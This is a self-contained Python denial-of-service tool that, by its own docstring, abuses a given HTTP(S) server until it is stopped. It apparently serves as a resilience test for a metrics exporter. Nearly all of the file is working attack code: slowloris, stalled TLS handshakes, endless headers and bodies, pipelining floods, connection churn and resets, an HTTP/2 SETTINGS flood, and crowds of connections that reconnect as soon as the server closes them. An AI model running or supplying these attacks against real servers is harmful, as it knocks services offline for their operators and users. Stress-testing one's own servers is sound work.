"""Abuses an HTTP server until it is ended: `python attack.py HOST:PORT idle=200 stalled=50 …`.

What the server has closed is opened again. Prints `under way` once every member of the crowd
has tried, and what it has done as one JSON object when its standard input ends.
Needs nothing but Python, so that it can be copied to any host.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import logging
import os
import random
import resource
import socket
import ssl
import struct
import sys
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine
from contextlib import asynccontextmanager
from typing import NamedTuple

PAUSE_SECONDS = 0.5  # about so long before what was closed is opened again
CUT = (asyncio.LimitOverrunError, asyncio.IncompleteReadError)
NO_PAUSE = {"churn", "reset", "unread", "handshakes"}
CONNECT_SECONDS = 30.0
DRIP_SECONDS = 0.2
HEAD = b"GET /metrics HTTP/1.1\r\nHost: x\r\n"
HELLO_BYTES = 50  # of some 300
SMALL_WINDOW_BYTES = 4096


class Target(NamedTuple):
    """Whom to abuse; a context where it speaks TLS."""

    host: str
    port: int
    context: ssl.SSLContext | None
    source: str  # the address to come from; empty for the kernel's choice


class Stream(NamedTuple):
    """A connection."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def send(self, data: bytes) -> None:
        """Send, no faster than it is taken."""
        if self.reader.at_eof() or self.writer.is_closing():
            raise ConnectionResetError
        self.writer.write(data)
        await self.writer.drain()
        # A connection that asyncio has ended takes everything at once, without a pause.
        await asyncio.sleep(0)

    async def end(self) -> None:
        """Read whatever comes, until the server hangs up."""
        while await self.reader.read(65536):
            pass


Kind = Callable[[Target], Awaitable[None]]


@asynccontextmanager
async def connected(
    target: Target, *, is_raw: bool = False, window: int = 0
) -> AsyncIterator[Stream]:
    """Connect, with TLS where the server has it, unless it is to stay raw."""
    client = socket.socket()
    client.setblocking(False)
    if target.source:
        client.bind((target.source, 0))
    if window:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    try:
        stream = await asyncio.wait_for(
            _open(client, target, is_raw=is_raw, window=window), CONNECT_SECONDS
        )
    except BaseException:
        client.close()
        raise
    try:
        yield stream
    finally:
        stream.writer.transport.abort()


async def _open(client: socket.socket, target: Target, *, is_raw: bool, window: int) -> Stream:
    context = None if is_raw else target.context
    await asyncio.get_running_loop().sock_connect(client, (target.host, target.port))
    reader, writer = await asyncio.open_connection(
        sock=client,
        ssl=context,
        server_hostname="localhost" if context else None,
        limit=window or 65536,
    )
    return Stream(reader, writer)


async def idle(target: Target) -> None:
    """Connect, shake hands, and say nothing more."""
    async with connected(target) as stream:
        await stream.end()


async def stalled(target: Target) -> None:
    """Begin a TLS handshake, and say nothing more."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = client_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    async with connected(target, is_raw=True) as stream:
        await stream.send(outgoing.read()[:HELLO_BYTES])
        await stream.end()


async def slow_reader(target: Target) -> None:
    """Ask for the metrics, and read a byte now and then."""
    async with connected(target, window=SMALL_WINDOW_BYTES) as stream:
        await stream.send(HEAD + b"\r\n")
        byte = b"H"
        while byte:
            await asyncio.sleep(DRIP_SECONDS)
            byte = await stream.reader.read(1)


async def endless_header(target: Target) -> None:
    """Send a header that does not end."""
    async with connected(target) as stream:
        await stream.send(HEAD + b"X-Endless: ")
        while True:
            await stream.send(b"a" * 1000)


async def many_headers(target: Target) -> None:
    """Send a request with 500 headers of 1,000 bytes."""
    async with connected(target) as stream:
        headers = b"".join(b"X-%d: %s\r\n" % (number, b"a" * 1000) for number in range(500))
        await stream.send(HEAD + headers + b"\r\n")
        await stream.end()


async def churn(target: Target) -> None:
    """Connect and hang up."""
    async with connected(target, is_raw=True):
        pass


async def reset(target: Target) -> None:
    """Send a request and reset the connection at once."""
    async with connected(target, is_raw=True) as stream:
        await stream.send(HEAD + b"\r\n")
        own = stream.writer.get_extra_info("socket")
        own.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


async def unread(target: Target) -> None:
    """Send a request and hang up, which is served all the same."""
    async with connected(target) as stream:
        await stream.send(HEAD + b"\r\n")


async def handshakes(target: Target) -> None:
    """Shake hands and hang up."""
    async with connected(target):
        pass


async def slowloris(target: Target) -> None:
    """Send a request byte by byte, and never to its end."""
    async with connected(target) as stream:
        await stream.send(HEAD + b"X-Slow: ")
        while True:
            await asyncio.sleep(DRIP_SECONDS)
            await stream.send(b"a")


async def huge_url(target: Target) -> None:
    """Ask for a path of a megabyte."""
    async with connected(target) as stream:
        await stream.send(b"GET /" + b"a" * 1_000_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        await stream.end()


async def huge_body(target: Target) -> None:
    """Send a body that does not end."""
    async with connected(target) as stream:
        length = b"Content-Length: 1000000000\r\n\r\n"
        await stream.send(HEAD.replace(b"GET", b"POST") + length)
        while True:
            await stream.send(b"a" * 10_000)


async def pipeline(target: Target) -> None:
    """Send request after request, and read no answer."""
    async with connected(target, window=SMALL_WINDOW_BYTES) as stream:
        while True:
            await stream.send((HEAD + b"\r\n") * 100)


async def garbage(target: Target) -> None:
    """Send what is neither TLS nor HTTP."""
    async with connected(target, is_raw=True) as stream:
        await stream.send(os.urandom(1000))
        await stream.end()


async def http2(target: Target) -> None:
    """Begin HTTP/2 without being asked to, and send settings without end."""
    async with connected(target) as stream:
        await stream.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        while True:
            await stream.send(b"\0\0\6\4\0\0\0\0\0\0\3\0\0\0\x64" * 100)


async def runbook(target: Target) -> None:
    """Ask for a runbook again and again, each time about another pool, and read it all."""
    async with connected(target) as stream:
        while True:
            which = random.choice(("", f"&pool=pool{random.randrange(100)}"))  # noqa: S311
            path = f"/runbooks/ThinPoolDataFillingUp?vg=docker{which}".encode()
            await stream.send(HEAD.replace(b"/metrics", path) + b"\r\n")
            head = await stream.reader.readuntil(b"\r\n\r\n")
            length = int(head.partition(b"content-length: ")[2].split()[0])
            await stream.reader.readexactly(length)


KINDS: dict[str, Kind] = {
    kind.__name__: kind
    for kind in (
        *(idle, stalled, slow_reader, endless_header, many_headers),
        *(
            churn,
            reset,
            unread,
            handshakes,
            slowloris,
            huge_url,
            huge_body,
            pipeline,
            garbage,
            http2,
            runbook,
        ),
    )
}


def client_context() -> ssl.SSLContext:
    """Make a context that takes any server."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


class Crowd:
    """Members of several kinds; each comes back when it has been thrown out."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self._waiting = 0
        self._all_tried = asyncio.Event()
        self.tally: Counter[str] = Counter()
        self.tasks: list[asyncio.Task[None]] = []  # the loop alone would not keep them

    def members(self, kind: str, count: int) -> list[Coroutine[None, None, None]]:
        """Make so many, to be run."""
        self._waiting += count
        return [self._keep_up(kind) for _ in range(count)]

    async def all_tried(self) -> None:
        """Wait until every member has come to its first end, or waits for the server."""
        await self._all_tried.wait()

    async def _keep_up(self, name: str) -> None:
        kind, is_first = KINDS[name], True
        while True:
            once = asyncio.ensure_future(kind(self._target))
            if is_first:
                await asyncio.wait((once,), timeout=PAUSE_SECONDS)
                self._count_first()
                is_first = False
            try:
                await once
            except (OSError, asyncio.TimeoutError, *CUT) as error:
                self.tally[f"{name}: {type(error).__name__}"] += 1
            self.tally[name] += 1
            pause = PAUSE_SECONDS * random.uniform(0.5, 1.5)  # noqa: S311 - not in step
            await asyncio.sleep(0 if name in NO_PAUSE else pause)

    def _count_first(self) -> None:
        self._waiting -= 1
        if not self._waiting:
            self._all_tried.set()


async def attack(target: Target, counts: dict[str, int]) -> None:
    """Keep it up until standard input ends, and tell what was done."""
    crowd = Crowd(target)
    loop = asyncio.get_running_loop()
    # Whoever is thrown out while it sends makes asyncio say so, each time.
    loop.set_exception_handler(lambda *_: None)
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    for kind, count in counts.items():
        for member in crowd.members(kind, count):
            crowd.tasks.append(loop.create_task(member))
    await crowd.all_tried()
    sys.stdout.write("under way\n")
    sys.stdout.flush()
    await loop.run_in_executor(None, sys.stdin.read)
    # Thousands of connections are ended by the end of the process, and by nothing sooner.
    sys.stdout.write(json.dumps(crowd.tally) + "\n")
    sys.stdout.flush()
    os._exit(0)


def main() -> None:
    """Attack, and tell."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target", metavar="HOST:PORT")
    parser.add_argument("kinds", nargs="+", metavar="KIND=COUNT")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--source", metavar="ADDRESS", default="", help="where to come from")
    options = parser.parse_args()
    host, _, port = options.target.rpartition(":")
    target = Target(host, int(port), client_context() if options.tls else None, options.source)
    counts = {kind: int(count) for kind, _, count in map(_partition, options.kinds)}
    if unknown := counts.keys() - KINDS.keys():
        parser.error(f"unknown: {', '.join(sorted(unknown))}; there are: {', '.join(KINDS)}")
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    asyncio.run(attack(target, counts))


def _partition(word: str) -> tuple[str, str, str]:
    return word.partition("=")


if __name__ == "__main__":
    main()
